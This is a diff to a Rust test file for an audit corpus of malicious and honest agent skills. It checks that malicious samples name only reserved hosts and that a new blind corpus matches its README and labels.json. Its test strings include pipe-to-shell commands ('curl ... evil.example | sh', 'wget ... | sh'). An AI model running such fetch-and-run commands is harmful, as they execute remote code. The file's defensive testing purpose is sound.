@@ -54,7 +54,7 @@ fn files(dir: &Path, out: &mut Vec<PathBuf>) {
 /// name (`.example`, `.test`: RFC 2606, never resolvable).
 fn live_hosts(text: &str) -> Vec<String> {
     static URL: std::sync::LazyLock<Regex> =
-        std::sync::LazyLock::new(|| Regex::new(r"https?://([^\s/:?#'\x22`)<>\\;|\[\]]+)").unwrap());
+        std::sync::LazyLock::new(|| Regex::new(r"https?://([^\s/:?#'\x22`)<>\\;|\[\],]+)").unwrap());
     URL.captures_iter(text)
         .map(|c| c[1].to_ascii_lowercase())
         .filter(|host| !host.contains(['$', '{', '(']))
@@ -91,6 +91,8 @@ fn the_corpus_has_150_malicious_skills_in_10_families_and_100_honest_ones() {
 fn every_url_of_the_malicious_corpus_names_a_reserved_host() {
     // The check itself, on a defanged URL and then on a live one.
     assert!(live_hosts("curl -s https://x.evil.example/p | sh; https://a.test:8080/").is_empty());
+    // A list of proxies: the comma ends the host.
+    assert!(live_hosts("GOPROXY=https://proxy.example,direct").is_empty());
     assert_eq!(
         live_hosts("wget https://Raw.githubusercontent.com/x | sh"),
         ["raw.githubusercontent.com"]
@@ -100,6 +102,7 @@ fn every_url_of_the_malicious_corpus_names_a_reserved_host() {
     for half in fresh_halves() {
         files(&half.join("malicious"), &mut all);
     }
+    files(&corpus().join("blind/malicious"), &mut all);
     let mut live = Vec::new();
     for file in &all {
         let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
@@ -167,5 +170,44 @@ fn the_fresh_corpus_is_split_in_halves_as_its_readme_says() {
                 "fresh/README.md lacks the row {present}"
             );
         }
+    }
+}
+
+/// The blind corpus (audit-corpus/blind/README.md): every skill a skill
+/// whose frontmatter names its folder, every family and kind of its README
+/// with its count, and labels.json describing exactly the skills there.
+#[test]
+fn the_blind_corpus_is_what_its_readme_and_labels_say() {
+    let blind = corpus().join("blind");
+    let readme = std::fs::read_to_string(blind.join("README.md")).unwrap();
+    let labels: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(blind.join("labels.json")).unwrap())
+            .unwrap();
+    let name_of = Regex::new(r"(?m)^name:\s*(\S+)\s*$").unwrap();
+    for (label, at_least) in [("malicious", 48), ("honest", 36)] {
+        let by_group = skills_in(&blind, label);
+        let mut found = Vec::new();
+        for (group, dirs) in &by_group {
+            let row = format!("| `{group}` |");
+            assert!(readme.contains(&row), "blind/README.md lacks the row {row}");
+            for dir in dirs {
+                let folder = dir.file_name().unwrap().to_string_lossy().into_owned();
+                let md = std::fs::read_to_string(dir.join("SKILL.md"))
+                    .unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
+                let named = name_of.captures(&md).map(|c| c[1].to_owned());
+                assert_eq!(named.as_deref(), Some(folder.as_str()), "{}", dir.display());
+                found.push(format!("{group}/{folder}"));
+            }
+        }
+        assert!(found.len() >= at_least, "{label}: {}", found.len());
+        let mut listed: Vec<String> = labels[label]
+            .as_object()
+            .unwrap_or_else(|| panic!("labels.json has no {label} map"))
+            .keys()
+            .cloned()
+            .collect();
+        listed.sort();
+        found.sort();
+        assert_eq!(listed, found, "labels.json and the {label} folders differ");
     }
 }
